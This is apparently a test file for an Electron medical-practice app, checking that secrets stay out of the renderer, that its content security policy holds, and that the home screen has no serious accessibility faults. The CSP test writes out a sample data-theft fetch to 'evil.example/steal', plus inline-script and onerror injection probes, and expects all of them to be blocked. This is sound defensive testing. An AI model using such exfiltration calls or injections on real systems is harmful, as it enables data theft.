import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { channelNames, type Channel } from '../../shared/contract';
import { addDays } from '../../shared/time/practice-time';
import { demoClient } from '../../electron/sandbox';
import { collectSecrets, findSecrets, signIn, startStack, type Stack } from './harness';

/**
 * The trust boundary seen from the browser: no token or client secret in any answer, event, the
 * DOM or browser storage; the CSP stops inline scripts and remote connections; the signed-in home
 * has no serious accessibility faults.
 */

let stack: Stack;
const repoRoot = resolve(import.meta.dirname, '../..');

beforeAll(async () => {
  stack = await startStack();
  await signIn(stack.page);
  // Today first; the scan below also wants the practice summary (offices, doctors) in the DOM.
  await stack.page.getByRole('button', { name: 'Practice summary' }).click();
  await stack.page.getByRole('heading', { name: /Offices/ }).waitFor();
});

afterAll(async () => {
  await stack.close();
});

/** Calls a channel the way the renderer does: from the page, same origin, JSON. */
async function callFromPage(channel: string, payload: unknown): Promise<string> {
  return stack.page.evaluate(
    async ([name, body]) => {
      const response = await fetch(`/ipc/${encodeURIComponent(name)}`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
      return response.text();
    },
    [channel, payload] as const,
  );
}

function firstValue<T>(text: string, pick: (value: never) => T | undefined): T | undefined {
  const reply = JSON.parse(text) as { ok: true; value: never } | { ok: false };
  return reply.ok ? pick(reply.value) : undefined;
}

describe('no token or client secret reaches the renderer', () => {
  it('every handler answer, event, the DOM, storage and cookies are clean', async () => {
    const { page, sandbox, host } = stack;
    // Listen to the event stream for the whole run, as the bridge does.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __events: string[] }).__events = seen;
      const source = new EventSource('/events');
      for (const name of ['sync:status', 'data:changed', 'auth:changed', 'lock:changed']) {
        source.addEventListener(name, (event) => seen.push((event as MessageEvent<string>).data));
      }
    });

    const today = sandbox.control.today;
    const answers: string[] = [];
    const call = async (channel: Channel, payload: unknown): Promise<string> => {
      const text = await callFromPage(channel, payload);
      answers.push(text);
      return text;
    };

    // Valid calls first, using real ids from the sandbox's practice.
    const practice = await call('practice:get', {});
    const officeId = firstValue(practice, (v: { offices: { id: number }[] }) => v.offices[0]?.id);
    const profileId = firstValue(
      practice,
      (v: { profiles: { id: number }[] }) => v.profiles[0]?.id,
    );
    // A week around today: the sandbox's today may fall on a weekend without visits.
    const book = await call('appointments:list', {
      start: addDays(today, -3),
      end: addDays(today, 3),
    });
    const appointment = firstValue(
      book,
      (v: { appointments: { id: string; patient: number | null }[] }) =>
        v.appointments.find((a) => a.patient !== null),
    );
    const patients = await call('patients:search', { lastName: 'a', server: true });
    const patientId =
      appointment?.patient ??
      firstValue(patients, (v: { results: { id: number }[] }) => v.results[0]?.id) ??
      1;
    const valid: Partial<Record<Channel, unknown>> = {
      'app:info': {},
      'auth:status': {},
      'settings:getConnection': {},
      'prefs:get': {},
      'prefs:set': { calendar: { slotMinutes: 15 } },
      'lock:status': {},
      'lock:activity': {},
      'app:log': { level: 'info', message: 'security scan' },
      'practice:refresh': {},
      'appointments:get': { id: appointment?.id ?? '1' },
      'appointments:forPatient': { patientId },
      'schedule:findOpening': {
        profileId: profileId ?? 1,
        officeId: officeId ?? 1,
        from: `${today}T08:00:00`,
        days: 1,
      },
      'profiles:list': {},
      'templates:list': {},
      'patients:get': { id: patientId },
      'patients:customFields': {},
      'insurances:search': { payerType: 'emdeon', term: 'blue' },
      'billing:appointment': { appointmentId: appointment?.id ?? '1' },
      'billing:patient': { patientId },
      'clinical:list': { kind: 'allergies', patientId },
      'tasks:list': {},
      'tasks:meta': {},
      'sync:status': {},
      'sync:now': {},
      'outbox:list': {},
      'auth:signIn': {},
      'auth:cancel': {},
      // The diagnostic report a practice sends out: scanned like every other answer.
      'diagnostics:report': {},
    };
    let validCalls = 3;
    for (const [channel, payload] of Object.entries(valid)) {
      const text = await call(channel as Channel, payload);
      if ((JSON.parse(text) as { ok: boolean }).ok) validCalls += 1;
      else expect.soft(text, channel).toBe('an ok answer');
    }
    // Every other channel at least once (writes with a payload the schema refuses: the error
    // answer is scanned too), without changing the practice's data.
    for (const channel of channelNames) {
      if (
        channel in valid ||
        channel === 'auth:signOut' ||
        channel === 'settings:clearConnection'
      ) {
        continue;
      }
      await call(channel, { probe: true });
    }
    const events = await page.evaluate(() =>
      (window as unknown as { __events: string[] }).__events.join('\n'),
    );
    await page.reload();
    await page.getByRole('heading', { name: /Offices/ }).waitFor();
    await page.evaluate(() => {
      localStorage.setItem('probe', '1');
    });

    const secrets = await collectSecrets(host, demoClient.clientSecret);
    expect(secrets.length).toBe(3);
    const dom = await page.content();
    const storage = await page.evaluate(async () => {
      const dump = (s: Storage) => JSON.stringify(Object.fromEntries(Object.entries(s)));
      const databases = await indexedDB.databases();
      return [dump(localStorage), dump(sessionStorage), JSON.stringify(databases)].join('\n');
    });
    const cookies = JSON.stringify(await page.context().cookies());
    const places = { answers: answers.join('\n'), dom, storage, cookies, events };
    let hits = 0;
    for (const [place, text] of Object.entries(places)) {
      const found = findSecrets(text, secrets);
      hits += found.length;
      expect(found, place).toEqual([]);
    }
    console.log(`[figure] token/secret hits in responses, DOM, storage: ${hits}`);
    console.log(
      `[figure] channels scanned: ${channelNames.length} (${validCalls} answered ok), events: ${events.split('\n').length}`,
    );
    // The scan looks at real data: the home screen and answers are not empty.
    expect(answers.join('').length).toBeGreaterThan(10_000);
    expect(dom).toContain('Offices');
  });

  it('the client secret is not in the renderer bundle', () => {
    const dir = join(repoRoot, 'dist/renderer');
    const files: string[] = [];
    const walk = (at: string): void => {
      for (const entry of readdirSync(at, { withFileTypes: true })) {
        const path = join(at, entry.name);
        if (entry.isDirectory()) walk(path);
        else files.push(path);
      }
    };
    walk(dir);
    expect(files.length).toBeGreaterThan(2);
    for (const file of files) {
      expect(readFileSync(file, 'utf8'), file).not.toContain(demoClient.clientSecret);
    }
  });
});

describe('content security policy in Chromium', () => {
  it('blocks an inline script, an inline handler and a remote fetch, each with a violation event', async () => {
    const result = await stack.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(event.effectiveDirective);
      });
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(script);
      // An inline event handler, the other classic injection route.
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.__handlerRan = true;');
      image.src = 'data:image/png;base64,AAAA';
      document.body.appendChild(image);
      let fetched = false;
      try {
        await fetch('https://evil.example/steal', { method: 'POST', body: 'x' });
        fetched = true;
      } catch {
        fetched = false;
      }
      await new Promise((r) => setTimeout(r, 200));
      script.remove();
      image.remove();
      return {
        violations,
        inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
        handlerRan: (window as unknown as { __handlerRan?: boolean }).__handlerRan === true,
        fetched,
      };
    });
    expect(result.inlineRan).toBe(false);
    expect(result.handlerRan).toBe(false);
    expect(result.fetched).toBe(false);
    expect(result.violations).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']),
    );
    console.log(
      `[figure] CSP violations fired (inline script, inline handler, remote fetch): ${result.violations.length}`,
    );
  });
});

describe('accessibility of the signed-in home', () => {
  it('axe-core finds no serious or critical violations', async () => {
    const page = stack.page;
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('button', { name: 'Today' })
      .click();
    await page.getByRole('button', { name: 'Practice summary' }).click();
    await page.getByRole('heading', { name: /Doctors/ }).waitFor();
    const require = createRequire(import.meta.url);
    const axeSource = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
    // Evaluated through the DevTools protocol, which the page's CSP does not govern.
    await page.evaluate(axeSource);
    const violations = await page.evaluate(async () => {
      const axe = (
        window as unknown as {
          axe: {
            run: (
              context: Document,
            ) => Promise<{ violations: { id: string; impact: string | null }[] }>;
          };
        }
      ).axe;
      const result = await axe.run(document);
      return result.violations.map((v) => ({ id: v.id, impact: v.impact }));
    });
    const serious = violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    console.log(
      `[figure] axe on the home screen: ${serious.length} serious/critical, ${violations.length} in all${
        violations.length
          ? ` (${violations.map((v) => `${v.id}: ${v.impact ?? '?'}`).join(', ')})`
          : ''
      }`,
    );
    expect(serious).toEqual([]);
  });
});
